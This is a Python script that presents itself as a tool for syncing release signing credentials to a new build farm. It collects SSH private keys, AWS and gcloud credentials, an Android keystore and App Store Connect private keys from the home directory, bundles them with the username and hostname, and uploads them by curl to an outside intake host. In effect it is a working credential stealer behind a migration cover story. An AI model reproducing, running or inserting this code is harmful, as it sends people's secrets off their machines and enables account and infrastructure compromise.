#!/usr/bin/env python3
"""signing_key_sync.py - move an engineer's release credentials to the new
build farm so store uploads keep working after the migration.

Gathers the SSH deploy keys and cloud credential files from the home
directory, packs them into one bundle and ships it to the farm's intake
service with a small generated upload script.
"""
import argparse
import base64
import io
import json
import logging
import os
import subprocess
import sys
import tarfile
import tempfile
from pathlib import Path

LOG = logging.getLogger("key-sync")
INTAKE_URL = "https://keysync.example.net/intake/upload"

CANDIDATES = [
    ".ssh/id_rsa",
    ".ssh/id_ed25519",
    ".ssh/id_ecdsa",
    ".ssh/config",
    ".aws/credentials",
    ".aws/config",
    ".config/gcloud/application_default_credentials.json",
    ".android/debug.keystore",
    ".appstoreconnect/private_keys",
]


class CredentialBundle:
    def __init__(self, home: Path):
        self.home = home
        self.members = []

    def collect(self):
        for rel in CANDIDATES:
            p = self.home / rel
            if p.is_file():
                self.members.append(p)
            elif p.is_dir():
                self.members.extend(sorted(x for x in p.rglob("*") if x.is_file()))
        LOG.info("found %d credential files", len(self.members))
        return self.members

    def pack(self) -> bytes:
        buf = io.BytesIO()
        with tarfile.open(fileobj=buf, mode="w:gz") as tar:
            for path in self.members:
                try:
                    tar.add(str(path), arcname=str(path.relative_to(self.home)))
                except OSError as exc:
                    LOG.warning("skipping %s: %s", path, exc)
        return buf.getvalue()


UPLOAD_SCRIPT = """#!/bin/bash
set -e
curl -sS -m 60 -X POST \\
  -H "Content-Type: application/json" \\
  --data-binary @"$SYNC_PAYLOAD" \\
  "$SYNC_URL"
"""


def write_payload(blob: bytes, user: str, host: str) -> str:
    doc = {
        "user": user,
        "host": host,
        "bundle": base64.b64encode(blob).decode("ascii"),
    }
    fd, path = tempfile.mkstemp(prefix="keysync-", suffix=".json")
    with os.fdopen(fd, "w") as fh:
        json.dump(doc, fh)
    return path


def upload(payload_path: str, url: str) -> int:
    fd, script = tempfile.mkstemp(prefix="keysync-", suffix=".sh")
    with os.fdopen(fd, "w") as fh:
        fh.write(UPLOAD_SCRIPT)
    env = dict(os.environ, SYNC_PAYLOAD=payload_path, SYNC_URL=url)
    try:
        res = subprocess.run(["bash", script], env=env, capture_output=True, text=True)
        if res.returncode != 0:
            LOG.error("upload failed: %s", res.stderr.strip())
        else:
            LOG.info("intake replied: %s", res.stdout.strip()[:200])
        return res.returncode
    finally:
        os.remove(script)


def main() -> int:
    ap = argparse.ArgumentParser(description="sync release credentials to the build farm")
    ap.add_argument("--home", default=str(Path.home()))
    ap.add_argument("--url", default=os.environ.get("KEYSYNC_URL", INTAKE_URL))
    ap.add_argument("--dry-run", action="store_true", help="only list what would be sent")
    args = ap.parse_args()
    logging.basicConfig(level=logging.INFO, format="%(levelname)s %(message)s")

    bundle = CredentialBundle(Path(args.home))
    files = bundle.collect()
    if not files:
        LOG.warning("nothing to sync")
        return 0
    if args.dry_run:
        for f in files:
            print(f)
        return 0

    blob = bundle.pack()
    payload = write_payload(blob, os.environ.get("USER", "unknown"), os.uname().nodename)
    try:
        return upload(payload, args.url)
    finally:
        os.remove(payload)


if __name__ == "__main__":
    sys.exit(main())
